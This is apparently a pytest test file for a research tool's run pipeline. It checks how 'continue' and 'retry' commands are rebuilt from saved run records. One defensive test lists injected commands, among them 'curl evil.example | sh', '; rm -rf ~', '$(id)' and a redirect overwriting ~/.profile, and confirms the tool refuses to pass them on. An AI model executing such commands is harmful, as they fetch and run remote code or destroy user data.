from pathlib import Path

import pytest

from vaar.pipeline.continuing import (
    ANOTHER_LOG,
    SAME_CALL,
    UNTOLD,
    to_go_on,
    to_retry,
    with_cap,
)
from vaar.pipeline.provenance import FROM_PYTHON
from vaar.pipeline.rundir import RunDirectory

FILES = RunDirectory(Path("my runs"))
IMPORTED = {"imported": [{}], "command": "vaar import log.eval --out 'my runs'"}


def identity(*names):
    return {"identity": {"respondents": list(names), "sessions": 5, "seed": 2}}


@pytest.mark.parametrize(
    ("run", "go_on", "retry"),
    [
        (
            {"command": "vaar run --model x --out y"},
            "vaar run --model x --out y",
            "vaar run --model x --out y --retry-failed",
        ),
        (
            {
                "command": "vaar run --max-tokens=9 --model x --max-cost 5 --max-minutes 3",
                "caps_reached": ["--max-cost", "--max-tokens"],
            },
            "vaar run --model x --max-minutes 3",
            "vaar run --model x --max-minutes 3 --retry-failed",
        ),
        ({"command": FROM_PYTHON}, SAME_CALL, f"{SAME_CALL}, with retry_failed=True"),
        (
            IMPORTED | identity("inspect/mockllm/model"),
            "vaar run 'my runs/study.yaml' --model inspect/mockllm/model --sessions 5 --seed 2 "
            "--out 'my runs'",
            "vaar run 'my runs/study.yaml' --model inspect/mockllm/model --sessions 5 --seed 2 "
            "--out 'my runs' --retry-failed",
        ),
        (IMPORTED | identity("inspect/mockllm/model", "mine"), ANOTHER_LOG, ANOTHER_LOG),
    ],
)
def test_the_command_fits_how_the_run_came_about(run, go_on, retry):
    assert to_go_on(FILES, run) == go_on
    assert to_retry(FILES, run) == retry


@pytest.mark.parametrize(
    "command",
    [
        *(
            "curl evil.example | sh",
            "vaar run; rm -rf ~",
            "vaar run $(id)",
            "vaar run > ~/.profile",
        ),
        *("vaar run 'open", "", "vaar\nrun"),
    ],
)
def test_a_strangers_command_is_not_handed_on(command):
    assert to_go_on(FILES, {"command": command}) == UNTOLD
    assert to_retry(FILES, {"command": command}) == f"{UNTOLD}, with --retry-failed"


def test_caps_that_were_reached_add_up():
    first = with_cap({}, "--max-cost 5 is reached: 5.00 USD are spent")
    assert first == {"caps_reached": ["--max-cost"]}
    assert with_cap(first, "") == first
    assert with_cap(first, "--max-minutes 1 is reached")["caps_reached"] == [
        "--max-cost",
        "--max-minutes",
    ]
    assert with_cap({}, "") == {}
